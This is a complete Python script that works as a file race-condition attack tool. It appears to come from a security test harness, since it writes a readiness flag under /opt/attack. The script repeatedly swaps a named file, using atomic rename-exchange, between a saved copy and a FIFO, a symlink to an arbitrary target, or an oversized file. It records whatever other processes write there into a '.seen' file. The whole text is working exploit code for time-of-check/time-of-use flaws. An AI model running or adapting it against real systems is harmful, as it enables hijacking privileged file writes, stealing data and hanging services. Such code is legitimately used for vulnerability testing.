"""alternate.py NAME OTHER: at a name of the machine there is by turns a copy of what was there, and something else.

OTHER is fifo, link:TARGET or large:BYTES. What somebody else puts there meanwhile goes to NAME.seen.
"""
import ctypes
import os
import random
import shutil
import sys
import time

name, other = sys.argv[1:]
kind, _, value = other.partition(":")
kept, new = f"{name}.kept", f"{name}.new-{os.getpid()}"
shutil.copy2(name, kept)
known = open(kept, "rb").read()
AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None)


def note():
    """What has been taken from the name."""
    if os.path.isfile(new) and not os.path.islink(new) and os.path.getsize(new) < 100000:
        with open(new, "rb") as file, open(f"{name}.seen", "ab") as seen:
            content = file.read()
            if content != known:
                seen.write(content)
    os.unlink(new)


def make_other():
    if kind == "fifo":
        os.mkfifo(new)
    elif kind == "link":
        os.symlink(value, new)
    else:
        with open(new, "wb") as file:
            file.truncate(int(value))


open("/opt/attack/ready", "w").close()
while True:
    for make in (make_other, lambda: shutil.copy2(kept, new)):
        make()
        libc.renameat2(AT_FDCWD, new.encode(), AT_FDCWD, name.encode(), RENAME_EXCHANGE)
        note()
        time.sleep(random.random() * 0.003)
